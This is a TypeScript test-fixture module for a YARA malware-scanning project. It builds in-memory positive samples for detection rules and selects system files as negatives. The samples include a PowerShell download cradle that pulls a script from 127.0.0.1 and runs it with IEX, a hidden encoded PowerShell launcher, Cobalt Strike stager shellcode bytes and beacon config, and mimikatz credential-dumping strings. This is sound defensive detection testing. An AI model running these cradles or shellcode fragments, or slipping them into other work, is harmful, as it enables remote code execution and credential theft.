import { existsSync, lstatSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { isLibyaraAvailable } from '../src/libyara-engine.js';

export const IN_CI = process.env.CI === 'true';
export const REPO_ROOT = fileURLToPath(new URL('../../../', import.meta.url));
export const PUBLIC_RULES = path.resolve(REPO_ROOT, '../shared/corpus/yara/public-rules.yar');

/** Why a test that needs something absent must skip (outside CI) — or null when it can run. */
export function missing(what: 'libyara' | 'public-rules' | 'yara-cli'): string | null {
  if (what === 'libyara') {
    return isLibyaraAvailable() ? null : 'the libyara addon (@malpipe/yara-native) is not built';
  }
  if (what === 'public-rules') {
    return existsSync(PUBLIC_RULES) ? null : `${PUBLIC_RULES} is absent`;
  }
  return ['/usr/bin/yara', '/usr/local/bin/yara'].some((p) => existsSync(p))
    ? null
    : 'the yara CLI is not installed';
}

function ascii(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

function wide(text: string): Buffer {
  return Buffer.from(text, 'utf16le');
}

/** Deterministic filler that contains none of the rules' strings. */
function filler(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i += 1) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    out[i] = 0x20 + (state % 0x5e);
  }
  return out;
}

function dosStubPe(): Buffer {
  const pe = Buffer.alloc(0x200);
  pe.write('MZ', 0, 'latin1');
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  pe.write('PE\0\0', 0x80, 'latin1');
  return pe;
}

function csConfig(xorKey: number): Buffer {
  // BeaconType=0 (HTTP), Port=443, SleepTime=60000, then a MaxGetSize entry: the block the rule keys on.
  const plain = Buffer.from([
    0x00, 0x01, 0x00, 0x01, 0x00, 0x02, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01, 0x00, 0x02, 0x01, 0xbb, 0x00,
    0x03, 0x00, 0x02, 0x00, 0x04, 0x00, 0x00, 0xea, 0x60, 0x00, 0x04, 0x00, 0x02, 0x00, 0x04, 0x00, 0x10,
    0x00, 0x00,
  ]);
  return Buffer.from(plain.map((byte) => byte ^ xorKey));
}

/** Positive samples built in memory, one per default rule (expected matches listed exactly). */
export function defaultRuleSamples(): { name: string; bytes: Buffer; rules: string[] }[] {
  const upx = dosStubPe();
  const upxImage = Buffer.concat([upx, Buffer.alloc(0x600)]);
  upxImage.write('UPX0\0\0\0\0', 0x178, 'latin1');
  upxImage.write('UPX1\0\0\0\0', 0x1a0, 'latin1');
  upxImage.write('UPX!', 0x3e0, 'latin1');
  return [
    { name: 'upx.exe', bytes: upxImage, rules: ['UPX_Packed_PE'] },
    {
      name: 'embedded-pe.pdf',
      bytes: Buffer.concat([ascii('%PDF-1.7\n'), filler(300), dosStubPe(), filler(100)]),
      rules: ['Embedded_PE_In_Non_PE'],
    },
    {
      name: 'cs-config-4x.bin',
      bytes: Buffer.concat([filler(512, 1), csConfig(0x2e), filler(512, 2)]),
      rules: ['CobaltStrike_Beacon_Config_XOR'],
    },
    {
      name: 'cs-config-3x.bin',
      bytes: Buffer.concat([filler(64, 3), csConfig(0x69), filler(64, 4)]),
      rules: ['CobaltStrike_Beacon_Config_XOR'],
    },
    {
      name: 'beacon-strings.bin',
      bytes: Buffer.concat([
        filler(256),
        ascii('beacon.x64.dll\0ReflectiveLoader\0%s as %s\\%s: %d\0Could not connect to pipe (%s): %d\0'),
      ]),
      rules: ['CobaltStrike_Beacon_Strings'],
    },
    {
      name: 'stager.bin',
      bytes: Buffer.concat([
        Buffer.from([0xfc, 0xe8, 0x89, 0x00, 0x00, 0x00]),
        ascii('wininet\0'),
        Buffer.from([0x68, 0x4c, 0x77, 0x26, 0x07, 0xff, 0xd5, 0x68, 0x3a, 0x56, 0x79, 0xa7, 0xff, 0xd5]),
        Buffer.from([0x68, 0x57, 0x89, 0x9f, 0xc6, 0xff, 0xd5, 0x68, 0xeb, 0x55, 0x2e, 0x3b, 0xff, 0xd5]),
        Buffer.from([0x68, 0x58, 0xa4, 0x53, 0xe5, 0xff, 0xd5]),
      ]),
      rules: ['CobaltStrike_Stager_Shellcode'],
    },
    {
      name: 'kiwi.bin',
      bytes: Buffer.concat([filler(128), wide('mimikatz 2.2.0 (x64)\0'), wide('sekurlsa::logonpasswords\0')]),
      rules: ['Mimikatz_Strings'],
    },
    {
      name: 'cradle.ps1',
      bytes: ascii("$u='http://127.0.0.1/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n"),
      rules: ['PowerShell_Download_Cradle'],
    },
    {
      name: 'launcher.bat',
      bytes: ascii(
        '@echo off\r\npowershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA==\r\n',
      ),
      rules: ['PowerShell_Encoded_Command'],
    },
    {
      name: 'macro.doc',
      bytes: Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(504),
        wide('_VBA_PROJECT'),
        Buffer.alloc(64),
        ascii('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'),
      ]),
      rules: ['Office_OLE_Macro_AutoExec'],
    },
    {
      name: 'macro.docm',
      bytes: Buffer.concat([
        Buffer.from([0x50, 0x4b, 0x03, 0x04]),
        Buffer.alloc(26),
        ascii('[Content_Types].xml'),
        filler(200),
        ascii('word/vbaProject.bin'),
      ]),
      rules: ['Office_OOXML_Macro_Enabled'],
    },
    {
      name: 'eicar.com',
      bytes: ascii('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
      rules: ['EICAR_Test_File'],
    },
  ];
}

/** Ordinary system binaries that no default rule should match. */
export function systemBinaries(): string[] {
  const candidates = ['/bin/ls', '/bin/bash', '/usr/bin/yara', '/bin/tar', '/usr/bin/find'];
  const libc = ['/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/libc.so.6'];
  return [...candidates, ...libc.slice(0, 1)].filter((file) => existsSync(file));
}

/**
 * A deterministic selection of regular files (no symlinks) under `roots`, in sorted walk order, until
 * `maxBytes` in all. Files outside [minFile, maxFile] bytes or whose path has whitespace are left out.
 */
export function pickSystemFiles(
  roots: readonly string[],
  maxBytes: number,
  options: { minFile?: number; maxFile?: number; maxFiles?: number; maxDepth?: number } = {},
): { files: string[]; bytes: number } {
  const minFile = options.minFile ?? 1024;
  const maxFile = options.maxFile ?? 16 * 1024 * 1024;
  const maxFiles = options.maxFiles ?? 20_000;
  const maxDepth = options.maxDepth ?? 4;
  const files: string[] = [];
  let bytes = 0;
  const walk = (dir: string, depth: number): boolean => {
    let entries: string[];
    try {
      entries = readdirSync(dir).sort();
    } catch {
      return true;
    }
    for (const name of entries) {
      const full = path.join(dir, name);
      if (/\s/.test(full)) continue;
      let info;
      try {
        info = lstatSync(full);
      } catch {
        continue;
      }
      if (info.isDirectory()) {
        if (depth < maxDepth && !walk(full, depth + 1)) return false;
      } else if (info.isFile() && info.size >= minFile && info.size <= maxFile) {
        if (bytes + info.size > maxBytes || files.length >= maxFiles) return false;
        files.push(full);
        bytes += info.size;
      }
    }
    return true;
  };
  for (const root of roots) {
    if (!walk(root, 0)) break;
  }
  return { files, bytes };
}

function unescapeYaraText(text: string): Buffer {
  const bytes: number[] = [];
  for (let i = 0; i < text.length; i += 1) {
    const ch = text.charCodeAt(i);
    if (text[i] !== '\\') {
      bytes.push(ch & 0xff);
      continue;
    }
    const next = text[i + 1] ?? '';
    i += 1;
    if (next === 'n') bytes.push(0x0a);
    else if (next === 't') bytes.push(0x09);
    else if (next === 'r') bytes.push(0x0d);
    else if (next === 'x') {
      bytes.push(Number.parseInt(text.slice(i + 1, i + 3), 16) || 0);
      i += 2;
    } else bytes.push(next.charCodeAt(0) & 0xff);
  }
  return Buffer.from(bytes);
}

/**
 * A well-formed PE32 header with no sections. It must be well formed: on a truncated header libyara 4.2
 * leaves `pe.number_of_signatures` undefined while YARA-X sets 0, so `not pe.number_of_signatures > 0`
 * differs (found by the parity test; a real divergence on malformed PEs, not a bug of either binding).
 */
export function minimalPe32Header(): Buffer {
  const header = Buffer.alloc(0x400);
  header.write('MZ', 0, 'latin1');
  header.writeUInt32LE(0x80, 0x3c);
  header.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  header.write('PE\0\0', 0x80, 'latin1');
  header.writeUInt16LE(0x14c, 0x84); // i386
  header.writeUInt16LE(0xe0, 0x94); // SizeOfOptionalHeader
  header.writeUInt16LE(0x0102, 0x96); // executable, 32-bit
  const optional = 0x98;
  header.writeUInt16LE(0x10b, optional); // PE32
  header.writeUInt32LE(0x400000, optional + 28); // ImageBase
  header.writeUInt32LE(0x1000, optional + 32); // SectionAlignment
  header.writeUInt32LE(0x200, optional + 36); // FileAlignment
  header.writeUInt16LE(4, optional + 48); // MajorSubsystemVersion
  header.writeUInt32LE(0x1000, optional + 56); // SizeOfImage
  header.writeUInt32LE(0x400, optional + 60); // SizeOfHeaders
  header.writeUInt16LE(2, optional + 68); // GUI subsystem
  header.writeUInt32LE(16, optional + 92); // NumberOfRvaAndSizes
  return header;
}

/**
 * Synthetic files that make many rules of a ruleset match without any real malware: each file starts with a
 * minimal MZ/PE header (many rules require it) and holds the text strings of a run of consecutive rules
 * (ascii, plus UTF-16LE where the rule asks for `wide`), kept under `maxFileBytes` (rules often bound
 * `filesize`). Engines must agree on these as on real files.
 */
export function ruleStringSoups(source: string, maxFiles: number, maxFileBytes = 150 * 1024): Buffer[] {
  const starts = [...source.matchAll(/^\s*(?:(?:private|global)\s+)*rule\s+\w+/gm)].map((m) => m.index);
  const header = minimalPe32Header();
  const soups: Buffer[] = [];
  let parts: Buffer[] = [header];
  let size = header.length;
  for (let r = 0; r < starts.length && soups.length < maxFiles; r += 1) {
    const body = source.slice(starts[r], starts[r + 1] ?? source.length);
    const pieces: Buffer[] = [];
    for (const m of body.matchAll(/^\s*\$\w*\s*=\s*"((?:[^"\\\n]|\\.)*)"([^\n]*)/gm)) {
      const text = unescapeYaraText(m[1] ?? '');
      pieces.push(text, Buffer.from([0]));
      if (/\bwide\b/.test(m[2] ?? ''))
        pieces.push(Buffer.from(text.toString('latin1'), 'utf16le'), Buffer.from([0, 0]));
    }
    const piece = Buffer.concat(pieces);
    if (piece.length === 0 || piece.length > maxFileBytes / 2) continue;
    if (size + piece.length > maxFileBytes) {
      soups.push(Buffer.concat(parts));
      parts = [header];
      size = header.length;
    }
    parts.push(piece);
    size += piece.length;
  }
  if (parts.length > 1 && soups.length < maxFiles) soups.push(Buffer.concat(parts));
  return soups;
}
